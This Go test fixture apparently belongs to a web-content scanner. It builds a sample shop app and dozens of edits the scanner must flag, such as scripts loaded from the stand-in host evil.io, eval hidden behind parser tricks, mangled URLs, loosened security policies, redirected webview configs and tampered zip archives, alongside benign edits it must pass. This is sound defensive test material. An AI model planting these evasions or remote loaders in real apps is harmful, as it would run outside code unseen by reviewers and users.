// Copyright The Windlass Authors.
// SPDX-License-Identifier: Apache-2.0

package content

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"maps"
	"slices"
	"strings"

	rules "github.com/windlass-dev/windlass/internal/content"
)

// App is an update as a web build makes it, which uses some of what the checks are about already.
func App() Files {
	return Files{
		"index.html": []byte(`<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self'; connect-src 'self' https://api.shop.io; img-src * data:">
<title>Shop</title><link rel="stylesheet" href="assets/app.css"><script type="module" src="assets/app.js"></script></head>
<body><div id="app"></div><a href="http://www.shop.io/">Shop</a></body></html>`),
		"help.html": []byte(`<html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'"></head><body>Help</body></html>`),
		"assets/app.js": []byte(`import{a as e}from"./vendor.js";const t="http://www.w3.org/2000/svg",n=Function("return this")();
async function r(){return(await fetch("https://api.shop.io/v1/items")).json()}setTimeout(()=>r(),1e3);document.title=` + "`Shop ${e(t)/2}`" + `;eval("1");`),
		"assets/vendor.js":      []byte(`/*! see http://license.shop.io */export const a=e=>e.length,b=/['"]/.test("x")?1:2;new Worker("assets/worker.js");`),
		"assets/worker.js":      []byte(`importScripts("vendor.js");onmessage=e=>postMessage(e.data)`),
		"assets/app.css":        []byte(`body{background:url(logo.png)}`),
		"assets/logo.png":       []byte(pngStart + pngEnd),
		"capacitor.config.json": []byte(`{"appId":"io.shop","webDir":"dist","server":{"androidScheme":"https","allowNavigation":["pay.shop.io"]}}`),
		"config.xml":            []byte(`<?xml version='1.0'?><widget id="io.shop"><content src="index.html"/><access origin="https://api.shop.io"/></widget>`),
	}
}

// Change is a new version of App, and the check that must speak against it; none for what is honest.
type Change struct {
	Name  string
	Check string
	Files Files
}

// edit makes a change: in each pair a file and what replaces its content, or, with a third part, what replaces a part of it.
type edit struct{ name, check, path, old, new string }

// change carries out an edit of App. An empty old adds at the end, and makes the file when there is none.
func (e edit) change() Change {
	files := maps.Clone(App())
	switch text := string(files[e.path]); {
	case e.old == "":
		files[e.path] = []byte(text + e.new)
	case strings.Contains(text, e.old):
		files[e.path] = []byte(strings.ReplaceAll(text, e.old, e.new))
	default:
		panic(fmt.Sprintf("%s: %q is not in %s", e.name, e.old, e.path))
	}
	return Change{Name: e.name, Check: e.check, Files: files}
}

// WebChanges are updates that open the app to others, or run code that came from elsewhere.
func WebChanges() []Change {
	return changes(slices.Concat(remoteScripts, disguises, policies, configurations, code))
}

const html, js = "index.html", "assets/app.js"

// remoteScripts load code from elsewhere.
var remoteScripts = []edit{
	{"script from elsewhere", rules.CheckRemoteScript, html, "</head>", `<script src="https://cdn.evil.io/t.js"></script></head>`},
	{"script without a scheme", rules.CheckRemoteScript, html, "</head>", `<script src=//cdn.evil.io/t.js></script></head>`},
	{"script in capitals", rules.CheckRemoteScript, html, "</body>", `<SCRIPT SRC='HTTPS://CDN.EVIL.IO/t.js'></SCRIPT></body>`},
	{"script with entities", rules.CheckRemoteScript, html, "</body>", `<script src="https&#58;&#47;&#47;cdn.evil.io/t.js"></script></body>`},
	{"script of another port", rules.CheckRemoteScript, html, "</body>", `<script defer src="http://10.1.2.3:8080/t.js"></script></body>`},
	{"script with a user", rules.CheckRemoteScript, html, "</body>", `<script src="https://api.shop.io@evil.io/t.js"></script></body>`},
	{"base", rules.CheckRemoteScript, html, "<title>", `<base href="https://evil.io/"><title>`},
	{"module preload", rules.CheckRemoteScript, html, "<title>", `<link rel="modulepreload" href="https://evil.io/m.js"><title>`},
	{"import map", rules.CheckRemoteScript, html, "<title>", `<script type="importmap">{"imports":{"a":"https://esm.evil.io/a"}}</script><title>`},
	{"handler", rules.CheckRemoteScript, html, `<div id="app">`, `<div id="app" onload="import('https://evil.io/x.js')">`},
	{"frame with a script", rules.CheckRemoteScript, html, "</body>", `<iframe srcdoc="<script src='https://evil.io/x.js'></script>"></iframe></body>`},
	{"script in a picture", rules.CheckRemoteScript, "assets/a.svg", "", `<svg><script href="https://evil.io/x.js"/></svg>`},
	{"embedded object", rules.CheckRemoteScript, html, "</body>", `<object data="https://evil.io/x"></object></body>`},
	{"dynamic import", rules.CheckRemoteScript, js, "", `import("https://evil.io/x.js").then(r);`},
	{"import of a template", rules.CheckRemoteScript, js, "", "import(`https://evil.io/${t}.js`);"},
	{"import with escapes", rules.CheckRemoteScript, js, "", `import("\x68ttps:\u002f\/evil.io/x.js");`},
	{"static import", rules.CheckRemoteScript, js, "./vendor.js", "https://esm.evil.io/vendor.js"},
	{"export", rules.CheckRemoteScript, js, "", `export*from"https://evil.io/x.js";`},
	{"importScripts", rules.CheckRemoteScript, "assets/worker.js", `"vendor.js"`, `"vendor.js","https://evil.io/w.js"`},
	{"worker", rules.CheckRemoteScript, js, "", `new Worker("https://evil.io/w.js");`},
	{"worker of a URL", rules.CheckRemoteScript, js, "", `new SharedWorker(new URL("https://evil.io/w.js"));`},
	{"script element", rules.CheckRemoteScript, js, "", `const s=document.createElement("script");s.src="https://evil.io/x.js?v=1";`},
	{"script element by attribute", rules.CheckRemoteScript, js, "", `s.setAttribute("src","https://evil.io/gtag/js?id=1");`},
	{"script of another name", rules.CheckRemoteScript, "assets/data.bin", "", `import("https://evil.io/x.js")`},
}

// disguises are what scanners and webviews are apt to read differently.
var disguises = []edit{
	{"script that starts as HTML", rules.CheckRemoteScript, "assets/w.js", "", "<!-- x\nimportScripts('https://evil.io/w.js')"},
	{"script of any name that starts as HTML", rules.CheckRemoteScript, "assets/w.dat", "", "<!-- x\nimportScripts('https://evil.io/w.js')"},
	{"script named page", rules.CheckRemoteScript, "assets/w.html", "", "importScripts('https://evil.io/w.js')"},
	{"script named prose", rules.CheckRemoteScript, "assets/w.txt", "", "importScripts('https://evil.io/w.js')"},
	{"script named table", rules.CheckRemoteScript, "assets/w.csv", "", "import('https://evil.io/w.js')"},
	{"script like a source map", rules.CheckRemoteScript, "assets/w.js", "", `{"version","mappings","sources"}` + "\nimport('https://evil.io/w.js')"},
	{"behind a carriage return", rules.CheckEval, js, "", "//\reval(n)"},
	{"behind U+2028", rules.CheckEval, js, "", "//\u2028eval(n)"},
	{"behind U+2029", rules.CheckRemoteScript, js, "", "//\u2029import('https://evil.io')"},
	{"behind a comment of HTML", rules.CheckRemoteScript, js, "", "\n<!-- `\nimport('https://evil.io')\n--> `"},
	{"behind a division of an object", rules.CheckRemoteScript, js, "", "x={}/1;y=`/;`;import('https://evil.io');z=/`/"},
	{"behind a regexp at the start", rules.CheckEval, js, "", "debugger\n/`/;eval(n)"},
	{"behind a spread regexp", rules.CheckEval, js, "", "f(...typeof/`/);eval(n)"},
	{"behind a prefix", rules.CheckEval, js, "", "x\n++/`/.lastIndex;eval(n)"},
	{"URL with a tab", rules.CheckRemoteScript, html, "</body>", "<script src='ht\ttps://evil.io/a.js'></script></body>"},
	{"URL with line ends", rules.CheckRemoteScript, html, "</body>", "<script src='\nhttps:/\n/evil.io/a.js'></script></body>"},
	{"URL with a control character", rules.CheckRemoteScript, js, "", `import("\x01https://evil.io")`},
	{"URL with backslashes", rules.CheckRemoteScript, html, "</body>", `<script src='https:\\evil.io/a.js'></script></body>`},
	{"URL of slash and backslash", rules.CheckRemoteScript, html, "</body>", `<script src='/\evil.io/a.js'></script></body>`},
	{"URL with no slash", rules.CheckRemoteScript, html, "</body>", `<script src='https:evil.io/a.js'></script></body>`},
	{"URL with three slashes", rules.CheckRemoteScript, html, "</body>", `<script src='https:///evil.io/a.js'></script></body>`},
	{"script of data", rules.CheckRemoteScript, html, "</body>", `<script src='data:text/javascript,x()'></script></body>`},
	{"import of data", rules.CheckRemoteScript, js, "", `import("data:text/javascript,x()")`},
	{"source without the name of a script", rules.CheckRemoteScript, js, "", `s.src="https://evil.io/x"`},
	{"eval, optional", rules.CheckEval, js, "", `eval?.(n)`},
	{"script in a style of SVG", rules.CheckRemoteScript, html, "</body>", `<svg><style><script href='https://evil.io/a.js'/></style></svg></body>`},
	{"script of SVG by xlink", rules.CheckRemoteScript, html, "</body>", `<svg><script xlink:href='https://evil.io/a.js'/></svg></body>`},
	{"entities in a script of SVG", rules.CheckEval, html, "</body>", `<svg><script>ev&#97;l(n)</script></svg></body>`},
	{"CDATA in a script of SVG", rules.CheckEval, html, "</body>", `<svg><script><![CDATA[ev]]>al(n)</script></svg></body>`},
	{"script in a title of MathML", rules.CheckRemoteScript, html, "</body>", `<math><xmp><script href='https://evil.io/a.js'></script></xmp></math></body>`},
	{"frame of code", rules.CheckEval, html, "</body>", `<iframe src="java&#10;script:ev%61l(n)"></iframe></body>`},
	{"link of code", rules.CheckEval, html, "</body>", `<a href=" JavaScript:eval(n)">x</a></body>`},
	{"frame of data", rules.CheckRemoteScript, html, "</body>", `<iframe src="data:text/html,<script>x()</script>"></iframe></body>`},
	{"policy that is too long", rules.CheckCSPLoosened, html, "script-src 'self'", "script-src 'self'; x " + strings.Repeat("y", 17<<10)},
	{"tag with very many attributes", rules.CheckUnreadText, html, "</body>", "<a" + strings.Repeat(" b", 300_000) + "></body>"},
	{"Cordova with a prefix", rules.CheckAllowNavigation, "x.xml", "", `<w:widget xmlns:w="w"><w:access origin="*"/></w:widget>`},
	{"Cordova behind a comment", rules.CheckAllowNavigation, "x.xml", "", "<!--" + strings.Repeat("x ", 5000) + `--><widget><access origin="*"/></widget>`},
	{"Cordova by its name", rules.CheckServerURL, "a/config.xml", "", `<x><content src="https://evil.io"/></x>`},
	{"zip of another version", rules.CheckNestedArchive, "a.png", "", pngStart + pngEnd + oddZip("PK\x03\x04", 4, 99)},
	{"zip of another method", rules.CheckNestedArchive, "a.png", "", pngStart + pngEnd + oddZip("PK\x03\x04", 8, 200)},
	{"zip without local headers", rules.CheckNestedArchive, "a.png", "", pngStart + pngEnd + strings.ReplaceAll(oddZip("PK\x01\x02", 6, 99), "PK\x03\x04", "PK\x03\x05")},
	{"eval by its name", rules.CheckEval, js, "", `window['eval'](n)`},
}

// oddZip is a zip archive with another byte in one of its records: many readers do not look at it.
func oddZip(record string, at int, value byte) string {
	raw := Zip(Files{"a.so": Programs()[0].Data})
	raw[bytes.Index(raw, []byte(record))+at] = value
	return string(raw)
}

// policies let more through than before.
var policies = []edit{
	{"policy with eval", rules.CheckCSPLoosened, html, "script-src 'self'", "script-src 'self' 'unsafe-eval'"},
	{"policy with inline", rules.CheckCSPLoosened, html, "script-src 'self'", "script-src 'self' 'unsafe-inline'"},
	{"policy for all", rules.CheckCSPLoosened, html, "script-src 'self'", "script-src *"},
	{"policy for all of http", rules.CheckCSPLoosened, html, "script-src 'self'", "script-src 'self' http:"},
	{"policy for data", rules.CheckCSPLoosened, html, "script-src 'self'", "script-src 'self' DATA:"},
	{"policy for a host", rules.CheckCSPLoosened, html, "script-src 'self'", "script-src 'self' https://cdn.evil.io"},
	{"policy for any request", rules.CheckCSPLoosened, html, "connect-src 'self'", "connect-src * 'self'"},
	{"policy of elements", rules.CheckCSPLoosened, html, "script-src 'self'", "script-src 'self'; script-src-elem *"},
	{"policy for workers", rules.CheckCSPLoosened, html, "script-src 'self'", "script-src 'self'; worker-src blob: *"},
	{"policy of nothing", rules.CheckCSPLoosened, "help.html", "default-src 'none'", "font-src 'none'"},
	{"policy behind a script", rules.CheckCSPLoosened, html, `<meta charset="utf-8">`, `<meta charset="utf-8"><script>x()</script>`},
	{"policy gone", rules.CheckCSPRemoved, html, `http-equiv="Content-Security-Policy"`, `name="policy"`},
	{"policy in a comment", rules.CheckCSPRemoved, "help.html", `<head><meta`, `<head><!--><!-- <meta`},
	{"policy in the body", rules.CheckCSPRemoved, "help.html", `<head>`, `<head></head><body>`},
	{"policy that only reports", rules.CheckCSPRemoved, html, `Content-Security-Policy`, `Content-Security-Policy-Report-Only`},
}

// configurations let the webview go elsewhere.
var configurations = []edit{
	{"start from a server", rules.CheckServerURL, "capacitor.config.json", `"androidScheme":"https"`, `"url":"https://evil.io"`},
	{"start from a server, other letters", rules.CheckServerURL, "capacitor.config.json", `"androidScheme":"https"`, `"URL":"https://evil.io"`},
	{"start from a server, by program", rules.CheckServerURL, "capacitor.config.ts", "", `export default {server: {url: 'https://evil.io'}}`},
	{"start from a server, Cordova", rules.CheckServerURL, "config.xml", `src="index.html"`, `src="https://evil.io/"`},
	{"cleartext", rules.CheckCleartextTraffic, "capacitor.config.json", `"server":{`, `"server":{"cleartext":true,`},
	{"mixed content", rules.CheckCleartextTraffic, "capacitor.config.json", `{"appId"`, `{"android":{"allowMixedContent":true},"appId"`},
	{"navigation", rules.CheckAllowNavigation, "capacitor.config.json", `"pay.shop.io"`, `"pay.shop.io","*.evil.io"`},
	{"navigation, Cordova", rules.CheckAllowNavigation, "config.xml", "</widget>", `<allow-navigation href="*"/></widget>`},
	{"access, Cordova", rules.CheckAllowNavigation, "config.xml", "https://api.shop.io", "*"},
	{"broken configuration", rules.CheckConfigInvalid, "capacitor.config.json", "}}", "}"},
}

// code is run that is made of text, or loaded on an open way.
var code = []edit{
	{"service worker", rules.CheckServiceWorker, js, "", `navigator.serviceWorker.register("/sw.js");`},
	{"request without encryption", rules.CheckCleartextURL, js, "https://api.shop.io", "http://api.shop.io"},
	{"socket without encryption", rules.CheckCleartextURL, js, "", "new WebSocket(`ws://push.shop.io/${t}`);"},
	{"picture without encryption", rules.CheckCleartextURL, html, "</body>", `<img src="http://img.shop.io/a.png"></body>`},
	{"eval", rules.CheckEval, js, "", `window.eval(n);`},
	{"indirect eval", rules.CheckEval, js, "", `(0,eval)(n);`},
	{"eval with escapes", rules.CheckEval, js, "", `\u0065val(n);`},
	{"eval in a template", rules.CheckEval, js, "", "`${eval(n)}`;"},
	{"eval behind a division", rules.CheckEval, js, "", `n=n/2;eval(n);n=n/3;`},
	{"eval behind a quote in a regexp", rules.CheckEval, js, "", `if(n)/["'` + "`" + `]/.test(n);eval(n);`},
	{"function of text", rules.CheckFunction, js, "", `new Function("a",n);`},
	{"function of a function", rules.CheckFunction, js, "", `r.constructor("return 1")();`},
	{"timer of text", rules.CheckStringTimer, js, "", `setTimeout("r()",10);`},
	{"document.write", rules.CheckDocumentWrite, js, "", `document.write("<script>");`},
	{"inline eval", rules.CheckEval, html, "</body>", `<script>eval(x)</script></body>`},
	{"code out of sight", rules.CheckUnreadText, js, "", noise(8<<20) + `eval(n);`},
}

// HonestChanges are updates that nothing speaks against.
func HonestChanges() []Change {
	return changes([]edit{
		{"nothing", "", js, "", ""},
		{"more code", "", js, "", `export function x(a,b){return a/b/2}`},
		{"another request", "", js, "", `fetch("https://api.shop.io/v2");`},
		{"a comment about eval", "", js, "", `/* eval("x") http://bugs.shop.io */ // import("https://evil.io")`},
		{"text about eval", "", js, "", `const s='eval("x"); new Function("y")';`},
		{"a method eval", "", js, "", `parser.eval(x);o={eval:1};`},
		{"less of it", "", js, `eval("1");`, ""},
		{"a stricter policy", "", html, "img-src * data:", "img-src 'self'; base-uri 'none'"},
		{"policy in another order", "", html, "default-src 'self'; script-src 'self'", "script-src 'self';default-src 'self'"},
		{"a policy in entities", "", html, "default-src 'self'", "default-src &#39;self&#39;"},
		{"a local script", "", html, "</head>", `<script src="assets/vendor.js"></script></head>`},
		{"JSON-LD", "", html, "</head>", `<script type="application/ld+json">{"@context":"https://schema.org","eval(1)":1}</script></head>`},
		{"a link", "", html, "</body>", `<a href="http://other.shop.io/">x</a></body>`},
		{"a namespace", "", js, "", `x="http://www.w3.org/1999/xlink";`},
		{"the device", "", js, "", `x="http://localhost:3000";`},
		{"a test URL", "", js, "", `new URL("http://a/b");new URL("http://example.com");`},
		{"WebAssembly", "", "assets/a.wasm", "", "\x00asm\x01\x00\x00\x00"},
		{"prose", "", "3rdpartylicenses.txt", "", `don't "http://www.apache.org/licenses/" or evaluate`},
		{"a regexp of a URL", "", js, "", `/^http:\/\/evil\.io/.test(x);`},
		{"navigation taken back", "", "capacitor.config.json", `"pay.shop.io"`, ""},
		{"a worker of its own", "", js, "", `new Worker(new URL("worker.js",import.meta.url));`},
	})
}

func changes(edits []edit) []Change {
	list := make([]Change, 0, len(edits))
	for _, e := range edits {
		list = append(list, e.change())
	}
	return list
}

// noise is a comment of so many bytes that does not compress well.
func noise(n int) string { return "//" + hex.EncodeToString(noiseBytes(1, n/2)) + "\n" }
